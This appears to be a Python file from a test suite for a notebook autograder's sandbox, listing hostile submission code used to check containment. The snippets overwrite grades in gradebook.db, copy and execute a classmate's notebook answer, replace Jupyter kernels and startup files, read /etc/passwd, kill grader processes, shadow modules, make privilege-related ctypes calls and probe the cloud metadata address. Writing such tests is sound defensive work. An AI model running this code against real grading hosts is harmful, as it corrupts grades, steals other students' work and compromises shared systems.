# ruff: noqa: E501  # programs in texts
"""Reaching for what lies outside: the gradebook, other submissions, the host, the network."""

from attacks.hostile.attack import PLANTED, Family, first

family = Family("reaching out of the kernel")

family.runs(
    "points are written into the gradebook",
    """
    import glob, os, sqlite3
    places = {os.path.abspath(os.path.join(os.getcwd(), *[".."] * up, "gradebook.db")) for up in range(8)}
    for place in [*places, *glob.glob("/tmp/**/gradebook.db", recursive=True)]:
        if os.path.exists(place):
            book = sqlite3.connect(place, timeout=2)
            book.execute("update grade_cell set max_score = 99") if False else None
            book.execute("update grade set auto_score = 0, manual_score = 0")
            book.commit()
    """,
)
family.runs(
    "a classmate's notebook is read and handed in as one's own",
    """
    import glob, json
    answer = None
    for up in range(6):
        for path in glob.glob("/".join([".."] * up + ["*", "*", "*.ipynb"])) + glob.glob("/".join([".."] * up + ["*.ipynb"])):
            for cell in json.load(open(path)).get("cells", []):
                source = "".join(cell["source"])
                if source.startswith("def rnn_forward") and "NotImplementedError" not in source:
                    answer = source
    """,
    answer="exec(answer)",
)
family.runs(
    "files are planted all over the host",
    f"""
    import os
    tops = ["/", "/tmp", "/var/tmp", "/dev/shm", "/root", "/home", "/etc", "/opt", "/usr/local/lib", os.path.expanduser("~")]
    tops += [os.path.abspath("/".join([".."] * up) or ".") for up in range(8)]
    for top in tops:
        for name in ("{PLANTED}", "nbgrader_config.py", "sitecustomize.py"):
            try:
                open(os.path.join(top, name if top != "/" else "{PLANTED}"), "a").write("# {PLANTED}")
            except OSError:
                pass
    """,
)
family.runs(
    "the next student's kernel is replaced",
    f"""
    import json, os
    for home in {{os.path.expanduser("~"), "/root", os.environ.get("HOME", "/root")}}:
        try:
            place = home + "/.local/share/jupyter/kernels/python3"
            os.makedirs(place, exist_ok=True)
            json.dump({{"argv": ["sh", "-c", "touch /tmp/{PLANTED}"], "display_name": "x", "language": "python"}},
                      open(place + "/kernel.json", "w"))
            os.makedirs(home + "/.ipython/profile_default/startup", exist_ok=True)
            open(home + "/.ipython/profile_default/startup/0.py", "w").write("import os; os._exit(1)")
        except OSError:
            pass
    """,
)


@family()
def shell_magics_and_subprocesses(notebook, folder):
    first(notebook, f"%%bash\ntouch /tmp/{PLANTED}; cat /etc/passwd; echo 6.0; pkill -f nbgrader")
    first(notebook, f"!touch /tmp/{PLANTED}; id\n%sx ls /\nget_ipython().system('kill -9 $PPID 2>/dev/null &')")
    first(notebook, "import subprocess\nsubprocess.run(['sh', '-c', 'ls /proc/1/root /; mount; id'], check=False)")


@family()
def modules_that_are_handed_in_take_over_names(notebook, folder):
    for name in (
        "numpy",
        "ipykernel_launcher",
        "json",
        "sitecustomize",
        "nbgrader_config",
        "autograder",
        "usercustomize",
    ):
        (folder / f"{name}.py").write_text("import os\nos._exit(0)\n")


family.runs(
    "ctypes writes where it likes",
    """
    import ctypes, gc, numpy.testing
    class Object(ctypes.Structure):
        _fields_ = [("count", ctypes.c_ssize_t), ("kind", ctypes.py_object)]
    libc = ctypes.CDLL(None)
    for call in ("setuid", "setns", "unshare"):
        getattr(libc, call)(0x7e020000)
    libc.ptrace(16, 1, 0, 0); libc.mount(b"/", b"/tmp", b"", 4096, None); libc.chroot(b"..")
    """,
)
family.runs(
    "the network is used",
    """
    import socket, urllib.request
    for address in [("127.0.0.1", 22), ("192.0.2.1", 80), ("169.254.169.254", 80), ("::1", 80)]:
        try:
            socket.create_connection(address, timeout=0.3)
        except OSError:
            pass
    for name in ("example.org", "localhost"):
        try:
            socket.getaddrinfo(name, 80)
        except OSError:
            pass
    """,
)
family.runs(
    "the course's own files are edited",
    """
    import autograder.check, autograder.exercises, numpy, os
    for module in (autograder.check, autograder.exercises, numpy):
        try:
            os.chmod(module.__file__, 0o777)
            open(module.__file__, "a").write("")
            os.unlink(module.__file__) if module is not numpy and "/submission" in module.__file__ else None
        except OSError:
            pass
    """,
)
